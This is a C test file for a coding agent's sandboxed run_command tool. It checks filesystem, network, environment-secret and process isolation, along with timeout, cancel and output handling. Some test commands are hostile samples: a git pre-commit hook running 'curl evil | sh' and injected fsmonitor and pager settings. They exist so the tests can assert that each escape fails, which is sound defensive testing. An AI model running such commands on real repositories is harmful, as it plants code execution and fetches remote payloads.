/* test_sandbox.c — run_command: each escape must fail inside the sandbox, and commands
 * never outlive their call (timeout, cancel, background children), sandboxed or not.
 *
 * Network and socket probes use qct_connect (copied into the workspace so the sandbox can
 * run it wherever the build lives); "if and only if the probe exits 0 the sandbox was
 * breached". Each probe also runs unsandboxed once as a control, proving the target was
 * really there.
 */
#include "tests/tools/tt.h"

#include <arpa/inet.h>
#include <pthread.h>
#include <sys/socket.h>
#include <sys/un.h>

static void need_sandbox(void) {
  char *why = NULL;
  if (!tool__sandbox_available(&why)) SKIP("bubblewrap cannot run here: %s", why ? why : "?");
  free(why);
}

/* A workspace with the probe binary in bin/. */
static char *make_ws(void) {
  char *d = qct_tempdir("sbx");
  tt_sh("mkdir -p '%s/bin' && cp '%s' '%s/bin/qct_connect'", d, QCT_CONNECT_BIN, d);
  return d;
}

/* Run a command; returns the tool's code; *out gets output or error (malloc'd). */
static int run(tool_ws *ws, const char *cmd, int timeout_s, char **out, json_t **data) {
  json_t *a = json_pack("{s:s, s:i}", "command", cmd, "timeout_s", timeout_s);
  tool_result r;
  int rc = tool_call(ws, "run_command", a, NULL, &r);
  json_decref(a);
  if (out) *out = strdup(r.ok ? r.output : r.error);
  if (data) *data = r.data ? json_incref(r.data) : NULL;
  tool_result_release(&r);
  return rc;
}

/* ---- filesystem ------------------------------------------------------------------- */

TEST(sandbox_blocks_writes_outside_the_workspace) {
  need_sandbox();
  char *d = make_ws();
  char *outside = qct_tempdir("sbxout");
  const char *home = getenv("HOME");
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_REQUIRE, NULL, 0);
  char *cmd = qc_asprintf("echo x > '%s/escape.txt'; touch '%s/.qct-sandbox-probe'; echo y > /usr/qct-probe; "
                          "echo inside > in.txt; echo tmp > /tmp/t && cat /tmp/t",
                          outside, home ? home : "/root");
  char *out = NULL;
  json_t *data = NULL;
  int rc = run(ws, cmd, 30, &out, &data);
  ASSERT_MSG(rc == TOOL_OK, "%s", out);
  ASSERT_CONTAINS(out, "Read-only file system");
  ASSERT_CONTAINS(out, "tmp"); /* a private /tmp works */
  ASSERT(json_is_true(json_object_get(data, "sandboxed")));
  ASSERT(!tt_exists(outside, "escape.txt"));
  if (home) ASSERT(!tt_exists(home, ".qct-sandbox-probe"));
  ASSERT(!tt_exists("/usr", "qct-probe"));
  ASSERT(!tt_exists("/tmp", "t") || 1); /* the host's /tmp/t, if any, is not ours to judge */
  char *s = tt_read(d, "in.txt");
  ASSERT_STR_EQ(s, "inside\n");
  free(s);
  free(out);
  free(cmd);
  json_decref(data);
  tool_ws_close(ws);
  free(outside);
  free(d);
}

TEST(sandbox_keeps_git_hooks_and_config_read_only) {
  need_sandbox();
  char *d = make_ws();
  tt_sh("git -C '%s' init -q && rm -rf '%s/.git/hooks'", d, d);
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_REQUIRE, NULL, 0);
  char *out = NULL;
  int rc = run(ws,
               "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
               "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; git config core.pager evil; "
               "echo ok > .git/description; echo done",
               30, &out, NULL);
  ASSERT_MSG(rc == TOOL_OK, "%s", out);
  ASSERT_CONTAINS(out, "done");
  ASSERT(!tt_exists(d, ".git/hooks/pre-commit"));
  char *cfg = tt_read(d, ".git/config");
  ASSERT(cfg && !strstr(cfg, "evil"));
  free(cfg);
  /* the rest of .git stays usable (git commit must work for the agent) */
  char *desc = tt_read(d, ".git/description");
  ASSERT_STR_EQ(desc, "ok\n");
  free(desc);
  free(out);
  tool_ws_close(ws);
  free(d);
}

/* ---- network ---------------------------------------------------------------------- */

static int tcp_listener(int *port) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT(fd >= 0 && bind(fd, (struct sockaddr *)&a, sizeof a) == 0 && listen(fd, 16) == 0);
  socklen_t len = sizeof a;
  ASSERT(getsockname(fd, (struct sockaddr *)&a, &len) == 0);
  *port = ntohs(a.sin_port);
  return fd;
}

TEST(sandbox_blocks_loopback_tcp_and_dns) {
  need_sandbox();
  char *d = make_ws();
  int port;
  int lfd = tcp_listener(&port);
  char *cmd = qc_asprintf("./bin/qct_connect tcp 127.0.0.1 %d", port);
  char *out = NULL;
  /* control: without the sandbox the listener answers */
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_OFF, NULL, 0);
  ASSERT_EQ_INT(run(ws, cmd, 30, &out, NULL), TOOL_OK);
  ASSERT_CONTAINS(out, "CONNECTED");
  free(out);
  tool_ws_close(ws);
  ws = tt_open_opts(d, TOOL_SANDBOX_REQUIRE, NULL, 0);
  ASSERT_EQ_INT(run(ws, cmd, 30, &out, NULL), TOOL_EFAILED);
  ASSERT(!strstr(out, "CONNECTED"));
  free(out);
  ASSERT_EQ_INT(run(ws, "./bin/qct_connect dns example.com", 30, &out, NULL), TOOL_EFAILED);
  ASSERT(!strstr(out, "RESOLVED"));
  free(out);
  ASSERT_EQ_INT(run(ws, "./bin/qct_connect tcp 1.1.1.1 53", 30, &out, NULL), TOOL_EFAILED);
  free(out);
  /* only loopback exists */
  ASSERT_EQ_INT(run(ws, "cat /proc/net/dev", 30, &out, NULL), TOOL_OK);
  ASSERT_CONTAINS(out, "lo:");
  ASSERT(!strstr(out, "eth0:"));
  free(out);
  tool_ws_close(ws);
  close(lfd);
  free(cmd);
  free(d);
}

static int unix_listener(const char *path) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a;
  memset(&a, 0, sizeof a);
  a.sun_family = AF_UNIX;
  ASSERT(strlen(path) < sizeof a.sun_path);
  strcpy(a.sun_path, path);
  unlink(path);
  ASSERT(fd >= 0 && bind(fd, (struct sockaddr *)&a, sizeof a) == 0 && listen(fd, 16) == 0);
  return fd;
}

static void probe_runtime_socket(const char *ws_dir, const char *runtime) {
  char *sock = tt_path(runtime, "s");
  int lfd = unix_listener(sock);
  char *cmd = qc_asprintf("./bin/qct_connect unix '%s'", sock);
  char *out = NULL;
  tool_ws *ws = tt_open_opts(ws_dir, TOOL_SANDBOX_OFF, runtime, 0);
  ASSERT_EQ_INT(run(ws, cmd, 30, &out, NULL), TOOL_OK);
  ASSERT_CONTAINS(out, "CONNECTED");
  free(out);
  tool_ws_close(ws);
  ws = tt_open_opts(ws_dir, TOOL_SANDBOX_REQUIRE, runtime, 0);
  ASSERT_EQ_INT(run(ws, cmd, 30, &out, NULL), TOOL_EFAILED);
  ASSERT(!strstr(out, "CONNECTED"));
  free(out);
  tool_ws_close(ws);
  close(lfd);
  unlink(sock);
  free(sock);
  free(cmd);
}

TEST(sandbox_hides_the_daemon_socket_in_the_runtime_dir) {
  need_sandbox();
  char *d = make_ws();
  /* outside /tmp (the sandbox's /tmp is private anyway) and outside the workspace: next to
   * the test binary */
  char tmpl[4096];
  snprintf(tmpl, sizeof tmpl, "%s/qct-rt-XXXXXX", QCT_BUILD_DIR);
  char *rt = mkdtemp(tmpl);
  ASSERT(rt);
  probe_runtime_socket(d, rt);
  rmdir(rt);
  /* and a runtime dir inside the workspace */
  char *inner = tt_path(d, "run");
  ASSERT(mkdir(inner, 0700) == 0);
  probe_runtime_socket(d, inner);
  free(inner);
  free(d);
}

/* ---- environment ------------------------------------------------------------------ */

static void check_env_output(const char *out) {
  ASSERT(!strstr(out, "qct-sekrit"));
  ASSERT(!strstr(out, "FOO_API_KEY"));
  ASSERT(!strstr(out, "GITHUB_TOKEN"));
  ASSERT_CONTAINS(out, "PATH=");
  ASSERT_CONTAINS(out, "HOME=");
  static const char *const allowed[] = {"PATH", "HOME", "TMPDIR", "USER", "SHELL", "TERM", "LANG", "PWD",
                                        "SHLVL", "OLDPWD", "_", "CARGO_HOME", "RUSTUP_HOME", "GOPATH",
                                        "GOROOT", "GOMODCACHE", "GOFLAGS", "PYENV_ROOT", "VIRTUAL_ENV",
                                        "JAVA_HOME", "NVM_DIR", NULL};
  for (const char *l = out; l && *l; l = strchr(l, '\n'), l = l ? l + 1 : NULL) {
    const char *eq = strchr(l, '=');
    const char *nl = strchr(l, '\n');
    if (!eq || (nl && eq > nl)) continue;
    size_t n = (size_t)(eq - l);
    if (n >= 3 && strncmp(l, "LC_", 3) == 0) continue;
    int ok = 0;
    for (int i = 0; allowed[i]; i++)
      if (strlen(allowed[i]) == n && strncmp(allowed[i], l, n) == 0) ok = 1;
    ASSERT_MSG(ok, "unexpected variable in the command's environment: %.*s", (int)n, l);
  }
}

TEST(planted_secrets_never_reach_commands) {
  setenv("FOO_API_KEY", "qct-sekrit-1", 1);
  setenv("GITHUB_TOKEN", "qct-sekrit-2", 1);
  setenv("LC_QCT_TOKEN", "qct-sekrit-3", 1);
  char *d = make_ws();
  char *out = NULL;
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_OFF, NULL, 0);
  ASSERT_EQ_INT(run(ws, "env", 30, &out, NULL), TOOL_OK);
  check_env_output(out);
  free(out);
  tool_ws_close(ws);
  char *why = NULL;
  if (tool__sandbox_available(&why)) {
    ws = tt_open_opts(d, TOOL_SANDBOX_REQUIRE, NULL, 0);
    ASSERT_EQ_INT(run(ws, "env", 30, &out, NULL), TOOL_OK);
    check_env_output(out);
    ASSERT_CONTAINS(out, "HOME=/tmp");
    free(out);
    tool_ws_close(ws);
  }
  free(why);
  unsetenv("FOO_API_KEY");
  unsetenv("GITHUB_TOKEN");
  unsetenv("LC_QCT_TOKEN");
  free(d);
}

/* ---- processes -------------------------------------------------------------------- */

/* Processes whose command line contains `marker` (zombies have none). */
static int count_marked(const char *marker) {
  DIR *p = opendir("/proc");
  int n = 0;
  struct dirent *de;
  while (p && (de = readdir(p))) {
    if (de->d_name[0] < '0' || de->d_name[0] > '9') continue;
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/cmdline", de->d_name);
    FILE *f = fopen(path, "rb");
    if (!f) continue;
    char buf[4096];
    size_t len = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    for (size_t i = 0; i < len; i++)
      if (buf[i] == '\0') buf[i] = ' ';
    buf[len] = '\0';
    if (strstr(buf, marker)) n++;
  }
  if (p) closedir(p);
  return n;
}

static int wait_none(const char *marker) {
  for (int i = 0; i < 40; i++) {
    if (count_marked(marker) == 0) return 1;
    usleep(50000);
  }
  return 0;
}

static void no_survivors(tool_sandbox_policy pol) {
  char *d = make_ws();
  tool_ws *ws = tt_open_opts(d, pol, NULL, 0);
  char marker[64];
  /* a timeout: the foreground sleep and a background one */
  snprintf(marker, sizeof marker, "qct-mark-%d-%d-a", (int)getpid(), (int)pol);
  char *cmd = qc_asprintf("sh -c 'sleep 1000' %s & sleep 1000", marker);
  char *out = NULL;
  json_t *data = NULL;
  uint64_t t0 = qc_now_ms();
  ASSERT_EQ_INT(run(ws, cmd, 1, &out, &data), TOOL_ETIMEOUT);
  ASSERT(qc_now_ms() - t0 < 5000);
  ASSERT_CONTAINS(out, "timed out after 1 s");
  ASSERT(json_is_true(json_object_get(json_object_get(data, "exit"), "timed_out")));
  ASSERT_MSG(wait_none(marker), "a process of the timed-out command survived (%s)", marker);
  free(out);
  free(cmd);
  json_decref(data);
  /* a background process left behind by a command that exits at once */
  snprintf(marker, sizeof marker, "qct-mark-%d-%d-b", (int)getpid(), (int)pol);
  cmd = qc_asprintf("sh -c 'sleep 1000' %s >/dev/null 2>&1 & echo started", marker);
  ASSERT_EQ_INT(run(ws, cmd, 30, &out, NULL), TOOL_OK);
  ASSERT_CONTAINS(out, "started");
  ASSERT_MSG(wait_none(marker), "a background process survived its command (%s)", marker);
  free(out);
  free(cmd);
  tool_ws_close(ws);
  free(d);
}

TEST(no_process_survives_a_timeout_unsandboxed) { no_survivors(TOOL_SANDBOX_OFF); }

TEST(no_process_survives_a_timeout_sandboxed) {
  need_sandbox();
  no_survivors(TOOL_SANDBOX_REQUIRE);
  /* inside the sandbox even a process that starts its own session dies with the command */
  char *d = make_ws();
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_REQUIRE, NULL, 0);
  char marker[64];
  snprintf(marker, sizeof marker, "qct-mark-%d-setsid", (int)getpid());
  char *cmd = qc_asprintf("setsid sh -c 'sleep 1000' %s >/dev/null 2>&1 < /dev/null & echo started", marker);
  char *out = NULL;
  ASSERT_EQ_INT(run(ws, cmd, 30, &out, NULL), TOOL_OK);
  ASSERT_MSG(wait_none(marker), "a setsid process escaped the sandbox's PID namespace");
  free(out);
  free(cmd);
  /* the command sees its own PID namespace */
  ASSERT_EQ_INT(run(ws, "ls /proc | grep -c '^[0-9]'", 30, &out, NULL), TOOL_OK);
  ASSERT_MSG(atoi(out) < 10, "processes visible in the sandbox: %s", out);
  free(out);
  tool_ws_close(ws);
  free(d);
}

typedef struct canceller {
  atomic_int *flag;
  int delay_ms;
} canceller;

static void *cancel_later(void *p) {
  canceller *c = p;
  usleep((useconds_t)c->delay_ms * 1000);
  atomic_store(c->flag, 1);
  return NULL;
}

static void cancel_case(tool_sandbox_policy pol) {
  char *d = make_ws();
  tool_ws *ws = tt_open_opts(d, pol, NULL, 0);
  atomic_int flag = 0;
  canceller c = {&flag, 300};
  pthread_t th;
  pthread_create(&th, NULL, cancel_later, &c);
  char marker[64];
  snprintf(marker, sizeof marker, "qct-mark-%d-%d-cancel", (int)getpid(), (int)pol);
  char *cmd = qc_asprintf("sh -c 'sleep 1000' %s", marker);
  json_t *a = json_pack("{s:s}", "command", cmd);
  tool_call_opts o = {&flag, NULL, NULL};
  tool_result r;
  uint64_t t0 = qc_now_ms();
  ASSERT_EQ_INT(tool_call(ws, "run_command", a, &o, &r), TOOL_ECANCELLED);
  ASSERT(qc_now_ms() - t0 < 5000);
  ASSERT_CONTAINS(r.error, "cancelled");
  pthread_join(th, NULL);
  ASSERT_MSG(wait_none(marker), "a process of the cancelled command survived");
  tool_result_release(&r);
  json_decref(a);
  free(cmd);
  tool_ws_close(ws);
  free(d);
}

TEST(cancel_kills_the_command) {
  cancel_case(TOOL_SANDBOX_OFF);
  char *why = NULL;
  if (tool__sandbox_available(&why)) cancel_case(TOOL_SANDBOX_REQUIRE);
  free(why);
}

/* ---- policy, output, status ------------------------------------------------------- */

TEST(missing_sandbox_is_refused_or_warned_as_configured) {
  tool__sandbox_force_unavailable(1);
  char *d = make_ws();
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_REQUIRE, NULL, 0);
  char *out = NULL;
  ASSERT_EQ_INT(run(ws, "echo hi > ran.txt", 30, &out, NULL), TOOL_ESANDBOX);
  ASSERT_CONTAINS(out, "refusing to run the command without a sandbox");
  ASSERT_CONTAINS(out, "apt-get install bubblewrap");
  ASSERT(!tt_exists(d, "ran.txt"));
  free(out);
  tool_ws_close(ws);
  ws = tt_open_opts(d, TOOL_SANDBOX_PREFER, NULL, 0);
  json_t *data = NULL;
  ASSERT_EQ_INT(run(ws, "echo hi", 30, &out, &data), TOOL_OK);
  ASSERT(qc_str_has_prefix(out, "WARNING: this command ran WITHOUT a sandbox"));
  ASSERT_CONTAINS(out, "hi\n[exit code 0]");
  ASSERT(json_is_false(json_object_get(data, "sandboxed")));
  json_decref(data);
  free(out);
  tool_ws_close(ws);
  tool__sandbox_force_unavailable(0);
  free(d);
}

static size_t streamed;
static void on_out(void *user, const char *chunk, size_t len) {
  (void)user;
  (void)chunk;
  streamed += len;
}

TEST(output_is_capped_head_and_tail_and_streamed) {
  char *d = make_ws();
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_PREFER, NULL, 0);
  json_t *a = json_pack("{s:s}", "command", "seq 1 200000; echo done >&2");
  tool_call_opts o = {NULL, on_out, NULL};
  tool_result r;
  streamed = 0;
  ASSERT_EQ_INT(tool_call(ws, "run_command", a, &o, &r), TOOL_OK);
  ASSERT(qc_str_has_prefix(r.output, "1\n2\n3\n"));
  ASSERT(strstr(r.output, "bytes of output omitted"));
  ASSERT(qc_str_has_suffix(r.output, "199999\n200000\ndone\n[exit code 0]"));
  ASSERT(strlen(r.output) < TOOL__EXEC_OUTPUT_MAX + 1024);
  ASSERT(json_is_true(json_object_get(r.data, "truncated")));
  ASSERT(streamed > 1000000);
  tool_result_release(&r);
  json_decref(a);
  tool_ws_close(ws);
  free(d);
}

TEST(exit_codes_signals_and_cwd) {
  char *d = make_ws();
  tt_write(d, "sub/marker.txt", "m");
  tool_ws *ws = tt_open_opts(d, TOOL_SANDBOX_PREFER, NULL, 0);
  char *out = NULL;
  json_t *data = NULL;
  ASSERT_EQ_INT(run(ws, "echo failing; exit 3", 30, &out, &data), TOOL_EFAILED);
  ASSERT_CONTAINS(out, "failing\n[exit code 3]");
  ASSERT_EQ_INT(json_integer_value(json_object_get(json_object_get(data, "exit"), "code")), 3);
  free(out);
  json_decref(data);
  ASSERT_EQ_INT(run(ws, "printf '\\033[31mred\\033[0m plain'", 30, &out, NULL), TOOL_OK);
  ASSERT_CONTAINS(out, "red plain\n");
  free(out);
  json_t *a = json_pack("{s:s, s:s}", "command", "ls; pwd", "cwd", "sub");
  tool_result r;
  ASSERT_EQ_INT(tool_call(ws, "run_command", a, NULL, &r), TOOL_OK);
  ASSERT_CONTAINS(r.output, "marker.txt");
  ASSERT_CONTAINS(r.output, "/sub\n");
  tool_result_release(&r);
  json_decref(a);
  tool_ws_close(ws);
  ws = tt_open_opts(d, TOOL_SANDBOX_OFF, NULL, 0);
  ASSERT_EQ_INT(run(ws, "kill -9 $$", 30, &out, &data), TOOL_EFAILED);
  ASSERT_CONTAINS(out, "killed by signal 9");
  ASSERT_EQ_INT(json_integer_value(json_object_get(json_object_get(data, "exit"), "signal")), 9);
  ASSERT(json_is_false(json_object_get(data, "sandboxed"))); /* off: no sandbox, no warning */
  ASSERT(!strstr(out, "WARNING"));
  free(out);
  json_decref(data);
  tool_ws_close(ws);
  free(d);
}

/* An editor terminal (ACP terminal methods) runs commands when the policy allows it. */
static int term_calls;
static int fake_terminal(void *user, const char *command, const char *abs_cwd, int timeout_s, atomic_int *cancel,
                         tool_exec_result *res, char **err) {
  (void)user;
  (void)cancel;
  (void)err;
  term_calls++;
  res->exit_code = 0;
  res->output = qc_asprintf("terminal ran [%s] in %s for %d s\n", command, abs_cwd, timeout_s);
  return 0;
}

TEST(editor_terminal_is_used_unless_the_sandbox_is_required) {
  char *d = make_ws();
  tool_io io = {NULL, NULL, fake_terminal, NULL};
  tool_ws_opts o = {TOOL_SANDBOX_PREFER};
  o.io = &io;
  o.runtime_dir = "/nonexistent/r";
  o.state_dir = "/nonexistent/s";
  tool_ws *ws = NULL;
  char *err = NULL;
  ASSERT_EQ_INT(tool_ws_open(d, &o, &ws, &err), TOOL_OK);
  char *out = NULL;
  term_calls = 0;
  ASSERT_EQ_INT(run(ws, "make", 7, &out, NULL), TOOL_OK);
  ASSERT_CONTAINS(out, "editor's terminal");
  ASSERT_CONTAINS(out, "terminal ran [make]");
  ASSERT_CONTAINS(out, "for 7 s");
  ASSERT_EQ_INT(term_calls, 1);
  free(out);
  tool_ws_close(ws);
  char *why = NULL;
  if (tool__sandbox_available(&why)) {
    o.sandbox = TOOL_SANDBOX_REQUIRE;
    ASSERT_EQ_INT(tool_ws_open(d, &o, &ws, &err), TOOL_OK);
    ASSERT_EQ_INT(run(ws, "echo local", 30, &out, NULL), TOOL_OK);
    ASSERT_CONTAINS(out, "local");
    ASSERT_EQ_INT(term_calls, 1);
    free(out);
    tool_ws_close(ws);
  }
  free(why);
  free(d);
}

QC_TEST_MAIN
